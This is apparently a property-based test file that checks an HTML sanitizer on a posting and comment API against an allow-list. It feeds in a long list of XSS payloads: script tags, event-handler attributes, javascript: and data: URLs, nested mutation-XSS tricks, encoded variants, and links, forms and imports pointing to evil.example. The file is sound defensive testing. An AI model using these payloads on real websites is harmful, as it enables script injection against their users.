import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { useWorld, type Person } from "./support.ts";

const world = useWorld();
let writer: Person;

beforeAll(async () => {
  writer = await world.now.person(["journo"]);
});

const RUNS = 1000;
const FILE = `/files/${"aB3_-x".repeat(5)}ab.png`;

/** What may come out, told once more and apart from the code under test (D-23). */
const ALLOWED: Record<string, Record<string, RegExp>> = {
  ...Object.fromEntries(
    ["p", "br", "strong", "em", "u", "s", "ul", "ol", "li", "blockquote", "h2", "h3", "h4", "code", "pre", "hr", "figure"]
      .concat(["figcaption", "table", "thead", "tbody", "tfoot", "tr", "caption", "colgroup", "col"])
      .map((tag) => [tag, {}]),
  ),
  a: { href: /^(?:https?:\/\/|mailto:|[/#?]|[\w.%-]*$|[\w.%/?#-]+$)/i, rel: /^noopener nofollow ugc$/, target: /^_blank$/ },
  img: { src: /^\/files\/[\w.-]+$/, alt: /^/, width: /^/, height: /^/ },
  span: { class: /^mention$/, "data-id": /^\d+$/ },
  th: { colspan: /^/, rowspan: /^/, scope: /^/ },
  td: { colspan: /^/, rowspan: /^/ },
};
const TAG = /<\/?([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi;
const ATTRIBUTE = /([a-z-]+)(?:="([^"]*)")?/gi;

/** What of the HTML is outside the set. */
function faultsOf(html: string): string[] {
  const faults: string[] = [];
  for (const [, name = "", attributes = ""] of html.matchAll(TAG)) {
    const allowed = ALLOWED[name];
    if (allowed === undefined) {
      faults.push(`<${name}>`);
      continue;
    }
    for (const [, key = "", value = ""] of attributes.trim().matchAll(ATTRIBUTE)) {
      if (allowed[key]?.test(value) !== true) {
        faults.push(`<${name} ${key}="${value}">`);
      }
    }
  }
  // Whatever is no tag of the set is text, and text has no angle bracket.
  return html.replace(TAG, "").includes("<") ? [...faults, "a stray <"] : faults;
}

const code = "alert(1)";
const evil = fc.constantFrom(
  `<script>${code}</script>`,
  `<ScRiPt src=//evil.example></sCrIpT>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<img src=x onerror=${code}>`,
  `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img src="${FILE}" onload="${code}" style="width:9px">`,
  `<img src="/files/../api/v1/session">`,
  `<svg><script>${code}</script></svg>`,
  `<svg onload=${code}><animate onbegin=${code} attributeName=x></svg>`,
  `<svg><foreignObject><iframe src="javascript:${code}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${code}></style></mglyph></table></mtext></math>`,
  `<a href="javascript:${code}">x</a>`,
  `<a href="jAvA&#x09;script:${code}">x</a>`,
  `<a href="&#106;&#97;vascript:${code}">x</a>`,
  `<a href=" java\nscript:${code}">x</a>`,
  `<a href="data:text/html,<script>${code}</script>">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="https://example.com" onclick="${code}" style="position:fixed">x</a>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<object data="data:text/html;base64,x"></object><embed src=x>`,
  `<form action="https://evil.example"><input name=q><button formaction="javascript:${code}">x</button></form>`,
  `<style>@import "//evil.example";</style><link rel=stylesheet href=x>`,
  `<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">`,
  `<p style="background:url(javascript:${code})" onmouseover=${code}>x</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  `<textarea><img src=x onerror=${code}></textarea><title><script>${code}</script></title>`,
  `<!--><script>${code}</script>--><![CDATA[<script>${code}</script>]]>`,
  `<span class="mention" data-id="1;drop">x</span><span class=evil>x</span>`,
  `<span data-id="7" class="mention other" onclick=${code}>x</span>`,
  `\u0000<\u0000script>${code}`,
  `＜script＞${code}＜/script＞`,
  `%3Cscript%3E${code}%3C/script%3E &lt;script&gt;${code}&lt;/script&gt;`,
  `<x-widget is="button" onfocus=${code} autofocus>x</x-widget>`,
  `<video src=x onerror=${code}><source onerror=${code}></video><audio src=x></audio>`,
  `<table><tr><td><table><tr><td onclick=${code}><table><script>${code}</script></table></td></tr></table></td></tr></table>`,
);
const tag = fc.constantFrom(...Object.keys(ALLOWED), "div", "section", "font", "o:p", "center", "marquee");
const { tree } = fc.letrec<{ tree: string; nested: string }>((tie) => ({
  nested: fc
    .tuple(tag, fc.array(tie("tree"), { maxLength: 3 }), fc.boolean())
    .map(([name, parts, closes]) => `<${name}>${parts.join("")}${closes ? `</${name}>` : ""}`),
  tree: fc.oneof(
    { maxDepth: 4 },
    evil,
    fc.string({ unit: "binary", maxLength: 12 }),
    fc.string({ unit: fc.constantFrom(..."<>\"'=&;/ aonx!-#"), maxLength: 12 }),
    tie("nested"),
  ),
}));
const content = fc.array(tree, { minLength: 1, maxLength: 6 }).map((parts) => `<p>begin</p>${parts.join("")}`);

interface Stored {
  id: number;
  content: string;
}

describe("content", () => {
  it(`@VALID-22 @POST-03 of ${RUNS} generated kinds, stored by REST, comes out within the safe set, and stays as it is when it is saved again`, async () => {
    await fc.assert(
      fc.asyncProperty(content, async (html) => {
        const { status, body } = await writer.client.post<Stored>("/statements", { content: html, saveAs: "draft" });
        expect(status).toBe(201);
        expect(faultsOf(body.content)).toEqual([]);
        expect(body.content.startsWith("<p>begin</p>")).toBe(true);
        const again = await writer.client.post<Stored>("/statements", { content: body.content, saveAs: "draft" });
        expect(again.body.content).toBe(body.content);
      }),
      { numRuns: RUNS, seed: 20260301 },
    );
  }, 300_000);

  const NORMAL = [
    "<p>Plain with &amp; and &lt;angle&gt; and ümlaut and 字</p>",
    "<h2>Head</h2><h3>Sub</h3><h4>Small</h4><p><strong>b</strong><em>i</em><u>u</u><s>s</s><br />x</p>",
    "<ul><li>one</li><li>two<ol><li>three</li></ol></li></ul><blockquote><p>said</p></blockquote><pre><code>a &lt; b</code></pre><hr />",
    `<figure><img src="${FILE}" alt="A view" width="10" height="20" /><figcaption>Below</figcaption></figure>`,
    '<table><caption>c</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">d</td></tr></tbody></table>',
    '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener nofollow ugc" target="_blank">out</a> <a href="/posts">in</a> <a href="mailto:a@example.com">mail</a></p>',
    '<p>Hello <span class="mention" data-id="1000">@Ann Lee</span></p>',
  ];
  it.each(NORMAL)("@POST-02 keeps what is normal: %s", async (html) => {
    const { body } = await writer.client.post<Stored>("/statements", { content: html });
    expect(body.content).toBe(html);
    expect(faultsOf(body.content)).toEqual([]);
  });

  it("is found out when it is outside the set", () => {
    for (const html of [
      "<script>",
      '<p onclick="x">',
      '<img src="https://x">',
      '<a href="javascript:x">',
      "<p",
      '<span class="mention" data-id="x">',
    ]) {
      expect(faultsOf(html)).not.toEqual([]);
    }
  });

  it("keeps the words of what it does not keep", async () => {
    const { body } = await writer.client.post<Stored>("/statements", {
      content: "<div>One <font color=red>two</font></div><b>three</b> <i>four</i><script>gone</script>",
    });
    expect(body.content).toBe("One two<strong>three</strong> <em>four</em>");
  });

  it("is cleaned in comments as well", async () => {
    const id = await world.now.post("job", writer.contactId);
    const { body } = await writer.client.post<Stored>(`/jobs/${id}/comments`, {
      content: "<p>x<img src=x onerror=alert(1)></p>\u0000",
    });
    expect(body.content).toBe("<p>x</p>");
  });
});
